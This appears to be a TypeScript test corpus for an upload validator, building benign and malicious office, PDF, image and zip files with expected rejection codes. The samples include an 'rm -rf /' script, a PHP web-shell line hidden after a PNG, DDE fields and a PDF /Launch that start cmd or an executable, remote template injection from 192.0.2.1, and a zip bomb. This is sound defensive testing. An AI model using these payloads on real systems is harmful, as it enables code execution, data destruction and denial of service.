import { deflateRawSync, deflateSync } from 'node:zlib';
import { strFromU8, strToU8, unzipSync, Zip, ZipDeflate, type Zippable, zipSync } from 'fflate';
import { filledQuotation } from '../../src/cli/quotation-form.js';
import { eicar } from './clamd.js';
import { shippedFile, type TestFile } from './client.js';
import { png } from './png.js';

/** A file of the corpus, for which template it is sent, and what is said of it: nothing when it is taken. */
export interface Sample {
  readonly what: string;
  readonly template: 'BUSINESS_LETTER' | 'QUOTATION' | 'SOFTWARE_COPYRIGHT_CERTIFICATE' | 'BUNDLE';
  readonly file: TestFile;
  readonly codes: readonly string[];
}

const letter = unzipSync(shippedFile('business-letter-商务函.docx'));
const workbook = unzipSync(shippedFile('quotation-报价单.xlsx'));
const text = (value: string): Buffer => Buffer.from(value);
const zip = (parts: Zippable): Uint8Array => zipSync(parts);
const docx = (extra: Record<string, Uint8Array> = {}): Uint8Array => zip({ ...letter, ...extra });
const retyped = (parts: Record<string, Uint8Array>, from: string, to: string): Record<string, Uint8Array> => ({
  ...parts,
  '[Content_Types].xml': strToU8(strFromU8(parts['[Content_Types].xml']!).replace(from, to)),
});
const relationship = (type: string, target: string) =>
  strToU8(
    `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
  );

const pdf = (body = '', end = '%%EOF\n'): Buffer =>
  text(`%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n${body}\ntrailer\n<< /Root 1 0 R >>\nstartxref\n0\n${end}`);
function pdfWithPackedObjects(objects: string): Buffer {
  const packed = deflateSync(text(objects));
  return Buffer.concat([
    text('%PDF-1.7\n2 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n'),
    packed,
    text('\nendstream\nendobj\n%%EOF\n'),
  ]);
}

/** Packed objects in a stream whose dictionary says `dictionary` and ends its line with `end`. */
const packedObjects = (dictionary: string, packed: Uint8Array, end = '\n'): Buffer =>
  Buffer.concat([
    text(`%PDF-1.7\n2 0 obj\n<< /Type /ObjStm /N 1 /First 4 ${dictionary} >>\nstream${end}`),
    packed,
    text('\nendstream\nendobj\n%%EOF\n'),
  ]);
const script = '1 0 << /S /JavaScript /JS (x) >>';

/** As much as a JPEG picture needs to be told as one and to be whole: a head, the begin of a scan, its bits, its end. */
const jpeg = Buffer.from('ffd8ffe000104a46494600010100000100010000ffda0008010100003f0055aa55aaffd9', 'hex');

/** Bytes that do not pack, the same in each run. */
function noise(length: number): Buffer {
  let state = 1;
  const next = () => {
    state = (state * 48271) % 2147483647;
    return state >> 8;
  };
  return Buffer.from(Uint8Array.from({ length }, next));
}

/** A zip whose entries tell their sizes after their bytes, as services write it that do not know them before. */
function inOneGo(parts: Record<string, Uint8Array>): Buffer {
  const pieces: Uint8Array[] = [];
  const whole = new Zip((_, piece) => pieces.push(piece));
  for (const [name, bytes] of Object.entries(parts)) {
    const entry = new ZipDeflate(name);
    whole.add(entry);
    entry.push(bytes, true);
  }
  whole.end();
  return Buffer.concat(pieces);
}

/** Zips by hand what no library would: entries with a password, and such that lie about their size. */
function rawZip(entries: { name: string; packed: Buffer; size: number; flags?: number }[]): Buffer {
  const locals: Buffer[] = [];
  const directory: Buffer[] = [];
  let offset = 0;
  for (const { name, packed, size, flags = 0 } of entries) {
    const common = Buffer.alloc(26);
    common.writeUInt16LE(20, 0);
    common.writeUInt16LE(flags, 2);
    common.writeUInt16LE(8, 4);
    common.writeUInt32LE(packed.length, 14);
    common.writeUInt32LE(size, 18);
    common.writeUInt16LE(name.length, 22);
    const local = Buffer.concat([Buffer.from([0x50, 0x4b, 3, 4]), common, text(name), packed]);
    const tail = Buffer.alloc(14);
    tail.writeUInt32LE(offset, 10);
    directory.push(Buffer.concat([Buffer.from([0x50, 0x4b, 1, 2, 20, 0]), common, tail, text(name)]));
    locals.push(local);
    offset += local.length;
  }
  const central = Buffer.concat(directory);
  const end = Buffer.alloc(18);
  end.writeUInt16LE(entries.length, 4);
  end.writeUInt16LE(entries.length, 6);
  end.writeUInt32LE(central.length, 8);
  end.writeUInt32LE(offset, 12);
  return Buffer.concat([...locals, central, Buffer.from([0x50, 0x4b, 5, 6]), end]);
}
const zeros = deflateRawSync(Buffer.alloc(64 * 1024 * 1024));
const manyEntries = Object.fromEntries(Array.from({ length: 10_001 }, (_, n) => [`${n}.txt`, new Uint8Array()]));
/** An old or locked Office file: the signature of a compound file, and a directory that names what a locked document holds. */
const compoundFile = Buffer.concat([
  Buffer.from('d0cf11e0a1b11ae1', 'hex'),
  Buffer.alloc(504),
  Buffer.from('EncryptedPackage', 'utf16le'),
  Buffer.alloc(1024),
]);
const withType = (part: string, type: string): Record<string, Uint8Array> =>
  retyped(letter, '</Types>', `<Override PartName="/${part}" ContentType="${type}"/></Types>`);
const pptx = zip({
  '[Content_Types].xml': strToU8(
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/ppt/presentation.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"/></Types>',
  ),
  'ppt/presentation.xml': strToU8('<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>'),
});

const none: readonly string[] = [];
const typeRefused = ['FILE_TYPE_NOT_ALLOWED'];
const disguised = ['FILE_CONTENT_MISMATCH', 'FILE_TYPE_NOT_ALLOWED'];
const damaged = ['FILE_CONTENT_MISMATCH'];
const sample =
  (template: Sample['template']) =>
  (what: string, name: string, bytes: Uint8Array, codes: readonly string[] = none): Sample => ({
    what,
    template,
    file: { name, bytes },
    codes,
  });
const asLetter = sample('BUSINESS_LETTER');
const asQuotation = sample('QUOTATION');
const asCertificate = sample('SOFTWARE_COPYRIGHT_CERTIFICATE');
const asBundle = sample('BUNDLE');

/** Good and bad files. BUNDLE stands for a template that takes zips and presentations. */
export const corpus: readonly Sample[] = [
  asLetter('a PDF', 'letter.pdf', pdf()),
  asLetter('a PDF with its ending in capitals', 'LETTER.PDF', pdf()),
  asLetter('a PDF without an ending', 'letter', pdf()),
  asLetter('a PDF with a Chinese name', '商务函（盖章）.pdf', pdf()),
  asLetter('a PDF with packed objects', 'letter.pdf', pdfWithPackedObjects('1 0 << /Type /Page >>')),
  asLetter('a PDF that writes names with #', 'letter.pdf', pdf('2 0 obj << /Na#6de (x) >> endobj')),
  asLetter('a PDF that speaks of JavaScript in its text', 'letter.pdf', pdf('2 0 obj (We use JavaScript and Launch it.) endobj')),
  asLetter('a Word document', 'letter.docx', docx()),
  asLetter('a Word document whose list of types comes last', 'letter.docx', zip(Object.fromEntries(Object.entries(letter).reverse()))),
  asLetter(
    'a Word document written in one go, whose list of types comes after a large picture',
    'letter.docx',
    inOneGo({ 'word/media/image9.png': noise(9 * 1024 * 1024), ...Object.fromEntries(Object.entries(letter).reverse()) }),
  ),
  asLetter('a PDF with objects in a stream that is not packed', 'letter.pdf', packedObjects('', text('1 0 << /Type /Page >>'))),
  asCertificate('a JPEG scan with what a camera writes after its end', 'scan.jpg', Buffer.concat([jpeg, Buffer.alloc(99)])),
  asLetter('a Word document with a vector picture', 'letter.docx', docx({ 'word/media/image1.svg': strToU8('<svg/>') })),
  asLetter(
    'a Word document with a link to a page',
    'letter.docx',
    docx({ 'word/_rels/x.xml.rels': relationship('hyperlink', 'https://example.com/') }),
  ),
  asLetter(
    'a Word document with an embedded workbook',
    'letter.docx',
    docx({ 'word/embeddings/Microsoft_Excel_Sheet.xlsx': zip(workbook) }),
  ),
  asQuotation('a filled quotation', 'quotation.xlsx', filledQuotation({})),
  asCertificate('a PNG scan', 'scan.png', png()),
  asCertificate('a JPEG scan', 'scan.jpg', jpeg),
  asCertificate('a JPEG scan with the long ending', 'scan.jpeg', jpeg),
  asBundle('a presentation', 'deck.pptx', pptx),
  asBundle('a zip of texts', 'texts.zip', zip({ 'a.txt': strToU8('a'), 'b/c.md': strToU8('c') })),
  asBundle('a zip with a Word document', 'papers.zip', zip({ 'letter.docx': docx() })),
  asBundle('an empty folder in a zip', 'folder.zip', zip({ 'folder/': new Uint8Array(), 'x.txt': strToU8('x') })),

  asLetter('nothing', 'letter.pdf', Buffer.alloc(0), ['FILE_EMPTY']),
  asLetter(
    'what is broken in its head',
    'letter.pdf',
    Buffer.concat([Buffer.from('3026b2758e66cf11a6d900aa0062ce6c', 'hex'), Buffer.alloc(2000)]),
    disguised,
  ),
  asLetter('text that calls itself PDF', 'letter.pdf', text('hello'), disguised),
  asLetter('text', 'letter.txt', text('hello'), typeRefused),
  asLetter('a page', 'letter.html', text('<!doctype html><script>alert(1)</script>'), typeRefused),
  asLetter('a page that calls itself PDF', 'letter.pdf', text('<!doctype html><script>alert(1)</script>'), disguised),
  asLetter(
    'a vector picture with a script',
    'logo.svg',
    text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    typeRefused,
  ),
  asLetter('a shell script', 'letter.sh', text('#!/bin/sh\nrm -rf /\n'), typeRefused),
  asLetter('a shell script that calls itself PDF', 'letter.pdf', text('#!/bin/sh\nrm -rf /\n'), disguised),
  asLetter('JavaScript', 'letter.js', text('require("child_process")'), typeRefused),
  asLetter('a program of Windows', 'setup.exe', Buffer.concat([text('MZ'), Buffer.alloc(200)]), typeRefused),
  asLetter(
    'a program of Windows that calls itself Word document',
    'letter.docx',
    Buffer.concat([text('MZ'), Buffer.alloc(200)]),
    disguised,
  ),
  asLetter(
    'a program of Linux that calls itself PDF',
    'letter.pdf',
    Buffer.concat([text('\x7fELF\x02\x01\x01'), Buffer.alloc(100)]),
    disguised,
  ),
  asLetter('a picture', 'letter.png', png(), typeRefused),
  asLetter('a picture that calls itself PDF', 'letter.pdf', png(), disguised),
  asLetter('a PDF that calls itself picture', 'letter.png', pdf(), damaged),
  asLetter('a PDF that calls itself program', 'letter.exe', pdf(), damaged),
  asLetter('a workbook that calls itself Word document', 'letter.docx', zip(workbook), disguised),
  asLetter('a GIF', 'letter.gif', text('GIF89a\x01\0\x01\0\0\0\0;'), typeRefused),
  asLetter('rich text', 'letter.rtf', text('{\\rtf1 hello}'), typeRefused),
  asLetter('a gzip', 'letter.gz', Buffer.from('1f8b0800000000000003', 'hex'), typeRefused),
  asLetter('a 7z archive', 'letter.7z', Buffer.concat([Buffer.from('377abcaf271c0004', 'hex'), Buffer.alloc(40)]), typeRefused),
  asLetter('a rar archive', 'letter.rar', Buffer.concat([Buffer.from('526172211a0700', 'hex'), Buffer.alloc(40)]), typeRefused),
  asLetter('a zip where none is taken', 'letter.zip', zip({ 'a.txt': strToU8('a') }), typeRefused),
  asLetter('the EICAR file', 'letter.com', text(eicar), typeRefused),
  asLetter('an old Word document', 'letter.doc', compoundFile, typeRefused),
  asLetter('a Word document with a password', 'letter.docx', compoundFile, typeRefused),
  asLetter(
    'a Word document with macros',
    'letter.docm',
    zip(
      retyped(
        { ...letter, 'word/vbaProject.bin': text('x') },
        'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
        'application/vnd.ms-word.document.macroEnabled.main+xml',
      ),
    ),
    typeRefused,
  ),
  asLetter('macros in what calls itself Word document', 'letter.docx', docx({ 'word/vbaProject.bin': text('x') }), typeRefused),
  asLetter('macros under a name in capitals', 'letter.docx', docx({ 'word/VBAPROJECT.BIN': text('x') }), typeRefused),
  asLetter('a control that runs code', 'letter.docx', docx({ 'word/activeX/activeX1.xml': text('<x/>') }), typeRefused),
  asLetter('an embedded object of any kind', 'letter.docx', docx({ 'word/embeddings/oleObject1.bin': text('x') }), typeRefused),
  asLetter(
    'a program behind the name of a picture',
    'letter.docx',
    docx({ 'word/media/image9.png': Buffer.concat([text('MZ'), Buffer.alloc(99)]) }),
    typeRefused,
  ),
  asLetter(
    'a template from elsewhere',
    'letter.docx',
    docx({ 'word/_rels/settings.xml.rels': relationship('attachedTemplate', 'http://192.0.2.1/x.dotm') }),
    typeRefused,
  ),
  asLetter(
    'an object from elsewhere',
    'letter.docx',
    docx({ 'word/_rels/document2.xml.rels': relationship('oleObject', 'http://192.0.2.1/x') }),
    typeRefused,
  ),
  asLetter(
    'a VBA project under another name',
    'letter.docx',
    zip(withType('word/x.dat', 'application/vnd.ms-office.vbaProject')),
    typeRefused,
  ),
  asLetter(
    'a VBA project by its relationship',
    'letter.docx',
    docx({
      'word/_rels/x.xml.rels': text(
        '<Relationships><Relationship Id="r1" Target="x.dat" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"/></Relationships>',
      ),
    }),
    typeRefused,
  ),
  asLetter('a compound file behind the name of a picture', 'letter.docx', docx({ 'word/media/image9.png': compoundFile }), typeRefused),
  asLetter(
    'a zip behind the name of a picture',
    'letter.docx',
    docx({ 'word/media/image9.png': zip({ 'a.txt': text('a') }) }),
    typeRefused,
  ),
  asLetter(
    'an embedded workbook with macros',
    'letter.docx',
    docx({ 'word/embeddings/Sheet.xlsx': zip({ ...workbook, 'xl/vbaProject.bin': text('x') }) }),
    typeRefused,
  ),
  asLetter(
    'a template from elsewhere, in UTF-16',
    'letter.docx',
    docx({
      'word/_rels/settings.xml.rels': Buffer.from(
        `\ufeff${strFromU8(relationship('attachedTemplate', 'http://192.0.2.1/x.dotm'))}`,
        'utf16le',
      ),
    }),
    typeRefused,
  ),
  asLetter(
    'a template from elsewhere, with letters as references and a > on the way',
    'letter.docx',
    docx({
      'word/_rels/settings.xml.rels': text(
        '<Relationships><Relationship Id="r>1" TargetMode="Ext&#101;rnal" Type="x/attached&#x54;emplate" Target="http://192.0.2.1/x.dotm"/></Relationships>',
      ),
    }),
    typeRefused,
  ),
  ...[
    [
      'begin',
      '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\x.exe</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>',
    ],
    ['in one', '<w:fldSimple w:instr="&#68;DE excel x"/>'],
    ['under another prefix', '<q:fldSimple xmlns:q="http://schemas.openxmlformats.org/wordprocessingml/2006/main" q:instr="DDE excel x"/>'],
  ].map(([how, field]) =>
    asLetter(
      `a field that starts a program, ${how}`,
      'letter.docx',
      docx({ 'word/document.xml': strToU8(strFromU8(letter['word/document.xml']!).replace('<w:body>', `<w:body><w:p>${field}</w:p>`)) }),
      typeRefused,
    ),
  ),
  asLetter(
    'fields that number pages and link',
    'letter.docx',
    docx({
      'word/footer9.xml': text(
        '<w:ftr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p><w:fldSimple w:instr="PAGE"/><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>HYPERLINK "https://example.com/DDE"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:ftr>',
      ),
    }),
    [],
  ),
  asLetter(
    'a page that Word would convert',
    'letter.docx',
    docx({
      'word/_rels/document9.xml.rels': text(
        '<Relationships><Relationship Id="r1" Target="chunk.htm" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk"/></Relationships>',
      ),
    }),
    typeRefused,
  ),
  asQuotation(
    'a workbook that asks another program for a value',
    'quotation.xlsx',
    zip({
      ...workbook,
      'xl/externalLinks/externalLink1.xml': text(
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c x"/></externalLink>',
      ),
    }),
    typeRefused,
  ),
  asLetter('a PDF that sends a form', 'letter.pdf', pdf('2 0 obj << /S /SubmitForm /F (http://192.0.2.1) >> endobj'), typeRefused),
  asLetter('relationships of more than 4 MiB', 'letter.docx', docx({ 'word/_rels/x.xml.rels': Buffer.alloc(4 * 1024 * 1024 + 1, ' ') }), [
    'FILE_TOO_LARGE',
  ]),
  asLetter('half a Word document', 'letter.docx', docx().subarray(0, 9000), damaged),
  asLetter('a PDF that was cut off', 'letter.pdf', pdf('', ''), damaged),
  asLetter('a PDF with a script', 'letter.pdf', pdf('2 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj'), typeRefused),
  asLetter('a PDF with a script whose name is written with #', 'letter.pdf', pdf('2 0 obj << /S /J#61vaScript >> endobj'), typeRefused),
  asLetter('a PDF with a script among packed objects', 'letter.pdf', pdfWithPackedObjects('1 0 << /S /JavaScript /JS (x) >>'), typeRefused),
  asLetter(
    'a PDF with a script far into packed objects',
    'letter.pdf',
    packedObjects('/Filter /FlateDecode', Buffer.from(deflateSync(text(noise(3 * 1024 * 1024).toString('base64') + script)))),
    typeRefused,
  ),
  asLetter(
    'a PDF with a script among packed objects, with other ends of lines',
    'letter.pdf',
    packedObjects('/Filter /FlateDecode', deflateSync(text(script)), '\r'),
    typeRefused,
  ),
  asLetter(
    'a PDF whose packed objects cannot be looked into',
    'letter.pdf',
    packedObjects('/F#69lter [/ASCIIHexDecode /FlateDecode]', text(`${deflateSync(text(script)).toString('hex')}>`)),
    damaged,
  ),
  asLetter('a PDF with a form of XML', 'letter.pdf', pdf('2 0 obj << /XFA [(template) 3 0 R] >> endobj'), typeRefused),
  asLetter('a PDF that opens another inside of it', 'letter.pdf', pdf('2 0 obj << /S /GoToE >> endobj'), typeRefused),
  asLetter('a PDF that is a zip too', 'letter.pdf', Buffer.concat([pdf(), zip({ 'a.txt': text('a') })]), typeRefused),
  asLetter('a PDF that starts a program', 'letter.pdf', pdf('2 0 obj << /S /Launch /F (cmd.exe) >> endobj'), typeRefused),
  asLetter('a PDF that carries files', 'letter.pdf', pdf('2 0 obj << /Names << /EmbeddedFiles 3 0 R >> >> endobj'), typeRefused),
  asLetter('a PDF with a film', 'letter.pdf', pdf('2 0 obj << /Subtype /RichMedia >> endobj'), typeRefused),
  asLetter('a PDF with a password', 'letter.pdf', pdf('trailer << /Encrypt 9 0 R >>'), typeRefused),
  asLetter('a name with a bidirectional override', 'a\u202efdp.exe.pdf', pdf(), ['INVALID']),
  asLetter('a name with a control character', 'a\u0085.pdf', pdf(), ['INVALID']),
  asLetter('a name of 201 characters', `${'长'.repeat(197)}.pdf`, pdf(), ['TOO_LONG']),
  asCertificate('half a PNG', 'scan.png', png().subarray(0, 50), damaged),
  asCertificate('a PNG with something after its end', 'scan.png', Buffer.concat([png(), text('<?php system($_GET[0]);')]), damaged),
  asCertificate('half a JPEG', 'scan.jpg', jpeg.subarray(0, -2), damaged),
  asCertificate('a JPEG that is a zip too', 'scan.jpg', Buffer.concat([jpeg, zip({ 'a.txt': text('a') })]), typeRefused),
  asCertificate('a JPEG that calls itself PNG', 'scan.png', jpeg, damaged),
  asQuotation('a Word document that calls itself workbook', 'quotation.xlsx', docx(), disguised),
  asQuotation(
    'a workbook with macros',
    'quotation.xlsm',
    zip(
      retyped(
        workbook,
        'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
        'application/vnd.ms-excel.sheet.macroEnabled.main+xml',
      ),
    ),
    typeRefused,
  ),
  asQuotation('macros of Excel 4', 'quotation.xlsx', zip({ ...workbook, 'xl/macrosheets/sheet1.xml': text('<x/>') }), typeRefused),
  asQuotation('a workbook with a password', 'quotation.xlsx', compoundFile, typeRefused),
  asQuotation(
    'a workbook that is not the template',
    'quotation.xlsx',
    zip(
      retyped(
        {
          ...workbook,
          'xl/workbook.xml': strToU8(strFromU8(workbook['xl/workbook.xml']!).replace(/<definedNames>.*<\/definedNames>/s, '')),
        },
        '',
        '',
      ),
    ),
    Array.from({ length: 7 }, () => 'FILE_CONTENT_MISMATCH'),
  ),
  asQuotation('a quotation with nonsense for a price', 'quotation.xlsx', filledQuotation({ LIST_PRICE: 'cheap' }), damaged),
  asBundle('a zip with a program', 'x.zip', zip({ 'setup.exe': text('x') }), typeRefused),
  asBundle('a zip with a script', 'x.zip', zip({ 'a/run.PS1': text('x') }), typeRefused),
  asBundle('a zip with a shortcut', 'x.zip', zip({ 'a.lnk': text('x') }), typeRefused),
  asBundle('a zip in a zip', 'x.zip', zip({ 'inner.zip': zip({ 'a.txt': text('a') }) }), typeRefused),
  asBundle('a zip with a document with macros', 'x.zip', zip({ 'a.docm': text('x') }), typeRefused),
  asBundle(
    'a zip with a program under another name',
    'x.zip',
    zip({ 'readme.txt': Buffer.concat([text('MZ'), Buffer.alloc(99)]) }),
    typeRefused,
  ),
  asBundle(
    'a zip with a password',
    'x.zip',
    rawZip([{ name: 'a.txt', packed: deflateRawSync(text('a')), size: 1, flags: 1 }]),
    typeRefused,
  ),
  asBundle(
    'a zip that unpacks to more than 1 GiB',
    'x.zip',
    rawZip(Array.from({ length: 17 }, (_, n) => ({ name: `${n}.bin`, packed: zeros, size: 64 * 1024 * 1024 }))),
    ['FILE_TOO_LARGE'],
  ),
  asBundle('a zip that lies about its size', 'x.zip', rawZip([{ name: 'a.txt', packed: zeros, size: 100 }]), damaged),
  asBundle('a zip of 10,001 files', 'x.zip', zip(manyEntries), ['FILE_TOO_LARGE']),
  asBundle('a zip without its directory', 'x.zip', zip({ 'a.txt': text('a') }).subarray(0, 40), damaged),
];
